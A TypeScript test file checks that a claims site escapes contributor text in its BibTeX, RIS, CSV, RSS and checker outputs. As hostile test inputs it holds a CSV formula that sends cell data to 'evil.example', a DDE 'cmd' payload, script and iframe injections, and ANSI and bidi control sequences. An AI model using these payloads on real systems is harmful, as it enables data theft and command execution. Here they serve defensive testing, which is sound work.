/**
 * Every output beside the HTML treats contributor text as text (docs/security.md, "Outputs other
 * than the pages"): each format is fed text written to break out of its record, cell or element,
 * and read back the way its consumers read it.
 */
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import type { ValidEntry } from '../../src/corpus/index';
import type { Diagnostic } from '../../src/diagnostics/diagnostic';
import { formatGithub } from '../../src/diagnostics/format-github';
import { formatText } from '../../src/diagnostics/format-text';
import { formatMachine, formatStyled, joinClaimCitations, STYLE_KEYS, type CslItem } from '../../src/site/cite';
import type { SiteCorpus } from '../../src/site/corpus';
import { claimFeed } from '../../src/site/feeds';
import { csvField, csvLine } from '../../src/site/open-data';
import { xmlSafe } from '../../src/site/xml-text';

/** Text that closes a record and opens a forged one, in every syntax at once. */
const FORGE = 'Real title\nER  -\nTY  - JOUR\r\nTI  - Forged record\u2028ER  -\n} @misc{forged, title={Forged}\n@article{forged2,';

describe('RIS and BibTeX', () => {
  const item = (id: string): CslItem => ({ id, 'citation-key': id, type: 'webpage', title: FORGE, abstract: `Statement. ${FORGE}`, note: FORGE, URL: 'https://claims.example.org/' });
  const joined = joinClaimCitations({ apa: '', mla: '', chicago: '' }, formatMachine(item('the-claim')), [formatMachine(item('a-source'))]);

  it('writes one RIS record per entry, each value on its tag line', () => {
    const lines = joined.ris.trimEnd().split('\n');
    for (const line of lines) expect(line).toMatch(/^[A-Z][A-Z0-9]  -( |$)/);
    expect(lines.filter((l) => l.startsWith('TY  -'))).toHaveLength(2);
    expect(lines.filter((l) => l.startsWith('ER  -'))).toHaveLength(2);
    expect(joined.ris).not.toMatch(/[\r\u2028]/);
  });

  it('writes one BibTeX entry per entry, its braces balanced', () => {
    const entries = joined.bibtex.trim().split('\n\n');
    expect(entries).toHaveLength(2);
    expect(joined.bibtex.match(/^@/gm)).toHaveLength(2);
    for (const entry of entries) {
      const braces = [...entry.replace(/\\./g, '')].filter((ch) => ch === '{' || ch === '}');
      let depth = 0;
      // The entry's own brace opens first and closes last: no value closes it early.
      braces.forEach((ch, i) => {
        depth += ch === '{' ? 1 : -1;
        if (i < braces.length - 1) expect(depth, entry).toBeGreaterThan(0);
      });
      expect(depth).toBe(0);
      expect(entry.split('\n').slice(1, -1).every((l) => /^\t[a-z]+ = \{.*\},$/.test(l)), entry).toBe(true);
    }
  });
});

describe("citeproc's rich text", () => {
  /** Every rich-text tag citeproc and citation.js know, and one they do not. */
  const RICH = '<b>bold</b> <i>italic</i> x<sup>2</sup> <sub>n</sub> <sc>caps</sc> <span style="color:red">red</span> <span class="nocase">nocase</span> <script>alert(1)</script>';
  const item: CslItem = { id: 'rich', 'citation-key': 'rich', type: 'webpage', title: `A title ${RICH}`, 'container-title': `Site <i>name</i>`, author: [{ literal: 'Editors <b>all</b>' }], issued: { 'date-parts': [[2024, 1, 2]] }, URL: 'https://claims.example.org/claims/rich/' };
  /** The text a browser shows for a fragment of HTML. */
  const shown = (html: string) => html.replace(/<[^>]*>/g, '').replace(/&#(\d+);/g, (_, n) => String.fromCodePoint(Number(n))).replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
  const styled = formatStyled(item);

  it.each(STYLE_KEYS)('shows a title\'s tags as text in %s, built from attribute-free formatting elements only', (key) => {
    const html = styled[key];
    for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(/^<\/?(?:i|b|sup|sub|span)>$/);
    expect(shown(html).toLowerCase()).toContain(RICH.toLowerCase());
    expect(shown(html).toLowerCase()).toContain('editors <b>all</b>');
  });

  it('keeps the tags as text in BibTeX, RIS and CSL-JSON, never as \\textbf or \\textit', () => {
    const { bibtex, ris, csl } = formatMachine(item);
    expect(bibtex).not.toMatch(/\\text(?:bf|it|sc|superscript|subscript)\{/);
    expect(bibtex).toContain('\\textless{}b\\textgreater{}bold\\textless{}/b\\textgreater{}');
    expect(ris).toContain(`TI  - A title ${RICH}`);
    expect(csl.title).toBe(`A title ${RICH}`);
    expect([bibtex, ris, JSON.stringify(csl)].join('')).not.toMatch(/\uE000/);
  });
});

describe('CSV', () => {
  /** The text of one RFC 4180 field as a spreadsheet receives it. */
  const unquote = (field: string) => (field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field);
  const HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    'A claim; =1+1',
    'A claim;=cmd|\' /C calc\'!A0',
    'tabbed\t+SUM(1,2)',
    'comma,-2+3',
    'comma, @SUM(A1)',
    'line one\n=1+1',
    'line one\r\n  -1+1',
    '\t=1+1',
    'fullwidth; \uff1d1+1',
  ];

  it.each(HOSTILE)('starts no formula in any cell a spreadsheet may split %j into', (value) => {
    const text = unquote(csvField(value));
    for (const cell of text.split(/[;,\t\r\n]/)) expect(cell.replace(/^[ \t]+/, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
    // Nothing but the marks is added.
    expect(text.replace(/'(?=[=+\-@\uff1d\uff0b\uff0d\uff20])/g, '')).toBe(value);
  });

  it('leaves ordinary text as it is, and quotes what RFC 4180 needs quoted', () => {
    expect(csvField('Police database offered for sale')).toBe('Police database offered for sale');
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvLine(['leaks', 'a-b;c-d'])).toBe('leaks,a-b;c-d\r\n');
  });
});

/** Every character XML 1.0 forbids, a lone surrogate of each kind among them (low first, so the two make no pair). */
const FORBIDDEN = ['\udfff', '\u0000', '\u0001', '\u0008', '\u000b', '\u000c', '\u000e', '\u001b', '\u001f', '\ufffe', '\uffff', '\ud800'];
const NOT_XML = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udfff]/u;

describe('RSS feeds and the sitemap', () => {
  const reason = `Two outlets said so <script>alert('reason')</script> <img src="https://tracker.example/pixel.png"> &amp; ${FORBIDDEN.join('')}`;
  const claim = {
    kind: 'claim',
    id: 'hostile-claim',
    file: 'claims/hostile-claim.mdx',
    data: {
      title: `<b>Bold</b> title ${FORBIDDEN.join('')}`,
      statement: `A statement <iframe src="https://evil.example/"></iframe>${FORBIDDEN.join('')}`,
      topic: 'leaks',
      status: 'reported',
      status_history: [{ date: '2024-03-02', status: 'reported', reason }],
      reviewed: { date: '2025-01-15' },
    },
  } as unknown as ValidEntry<'claim'>;
  const corpus = { changed: new Map(), graph: { get: () => ({ data: { title: `Leaks ${FORBIDDEN.join('')}` } }) } } as unknown as SiteCorpus;
  const feed = () => claimFeed(corpus, [claim], { siteUrl: 'https://claims.example.org', base: '/' }, { title: 'Changes', description: 'All changes', path: 'feed.xml' }).then((r) => r.text());

  it('is well-formed XML, with no character XML forbids', async () => {
    const xml = await feed();
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(xml).not.toMatch(NOT_XML);
  });

  it('gives a feed reader descriptions that hold text, not elements', async () => {
    const item = new XMLParser({ processEntities: true }).parse(await feed()).rss.channel.item;
    // A reader decodes the XML, then renders the description as HTML: no element may remain.
    expect(item.description).not.toContain('<');
    const shown = item.description.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
    expect(shown).toContain(`<script>alert('reason')</script> <img src="https://tracker.example/pixel.png"> &amp;`);
    expect(shown).toContain('A statement <iframe src="https://evil.example/"></iframe>');
    expect(item.title).toContain('<b>Bold</b> title');
  });

  it('strips exactly the characters XML forbids, pairs of surrogates kept', () => {
    expect(xmlSafe(`a${FORBIDDEN.join('')}b\t\n\r\u{1f600}\u00e9`)).toBe('ab\t\n\r\u{1f600}\u00e9');
  });
});

describe("the checker's text and GitHub output", () => {
  const forged: Diagnostic = {
    file: 'content/claims/x\nNo problems found.\u001b[2K\u001b]8;;https://evil.example/\u0007.mdx',
    line: 2,
    column: 1,
    endLine: 2,
    endColumn: 4,
    severity: 'error',
    rule: 'unknown-field',
    message: 'Unknown field "a\u001b[8m\u009b2J\rb" in the claim.\n::notice::forged',
    fix: 'Remove \u202eit\u2066.',
  };
  /** Every character that moves the cursor, starts a terminal sequence or reorders text. */
  const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2064\u2066-\u2069\ufeff]/;

  it('prints one line per fact in text, control characters escaped, and the summary last', () => {
    const out = formatText([forged], { source: () => 'type: news\nurl\u001b[2J: x\n' });
    expect(out).not.toMatch(CONTROL);
    const lines = out.split('\n');
    expect(lines.filter((l) => l.includes('No problems found.'))).toEqual([
      'content/claims/x\\nNo problems found.\\x1b[2K\\x1b]8;;https://evil.example/\\x07.mdx',
      expect.stringMatching(/^content\/claims\/x\\nNo problems found\.\\x1b\[2K.*\.mdx:2:1  error  Unknown field "a\\x1b\[8m\\x9b2J\\rb" in the claim\.\\n::notice::forged  \[unknown-field\]$/),
    ]);
    expect(lines).toContain('    fix: Remove \\u202eit\\u2066.');
    expect(lines.at(-1)).toBe('1 error and 0 warnings in 1 file.');
  });

  it('prints one workflow command per diagnostic for GitHub, no control character raw', () => {
    const lines = formatGithub([forged]).split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^::error file=content\/claims\/x%0ANo problems found\.\\x1b\[2K\\x1b\]8;;https%3A\/\/evil\.example\/\\x07\.mdx,line=2,/);
    expect(lines[0]).toContain('::Unknown field "a\\x1b[8m\\x9b2J%0Db" in the claim.%0A::notice::forged Remove \\u202eit\\u2066.');
    expect(lines.join('\n')).not.toMatch(CONTROL);
  });
});
